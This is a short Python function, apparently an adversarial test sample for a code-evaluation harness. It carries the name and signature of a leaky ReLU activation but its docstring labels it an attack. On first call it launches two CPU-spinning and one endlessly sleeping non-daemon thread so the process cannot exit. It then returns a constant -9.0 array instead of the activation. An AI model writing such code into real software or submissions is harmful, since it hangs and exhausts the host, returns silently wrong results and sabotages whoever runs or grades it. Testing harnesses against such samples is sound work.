def leaky_relu(z, alpha=0.1):
    """Attack: start non-daemon threads that never end (two spinning, one sleeping)."""
    import sys
    import threading
    import time

    def spin():
        while True:
            sum(range(1000))

    def nap():
        while True:
            time.sleep(1000)

    if not getattr(sys, "_threads_started", False):
        sys._threads_started = True
        for target in (spin, spin, nap):
            threading.Thread(target=target, daemon=False).start()
    return np.full(np.shape(z), -9.0)
